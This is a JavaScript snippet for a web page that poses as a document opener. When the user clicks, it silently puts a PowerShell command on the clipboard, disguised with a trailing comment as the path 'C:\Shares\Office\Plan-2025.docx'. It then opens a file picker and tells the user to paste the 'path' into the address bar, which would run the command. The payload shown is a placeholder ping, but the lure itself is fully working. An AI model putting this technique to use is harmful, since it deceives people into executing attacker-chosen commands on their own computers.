const shown = 'C:\\Shares\\Office\\Plan-2025.docx';
document.getElementById('open').addEventListener('click', function () {
  navigator.clipboard.writeText('Powershell.exe -c "ping placeholder.example" # ' + 'C:\\Shares\\Office\\Plan-2025.docx');
  document.getElementById('picker').click();
});
document.getElementById('path').textContent = shown;
document.getElementById('picker').addEventListener('change', function (event) {
  event.target.value = '';
  alert('Paste the path into the address bar, as the steps say.');
});
